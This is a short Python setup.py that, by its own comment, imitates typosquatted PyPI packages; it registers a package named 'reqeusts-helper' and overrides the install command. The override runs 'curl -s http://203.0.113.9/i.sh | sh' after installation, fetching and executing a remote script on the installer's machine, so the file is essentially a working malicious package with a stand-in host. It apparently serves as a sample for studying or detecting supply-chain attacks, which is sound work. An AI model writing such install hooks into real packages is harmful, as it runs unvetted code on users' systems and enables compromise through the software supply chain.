# Imitates typosquats that override the install command so a payload runs during `pip install` (e.g. the 2017 PyPI typosquat wave).
import os

from setuptools import find_packages, setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s http://203.0.113.9/i.sh | sh")


setup(name="reqeusts-helper", version="0.1", packages=find_packages(), cmdclass={"install": PostInstall})
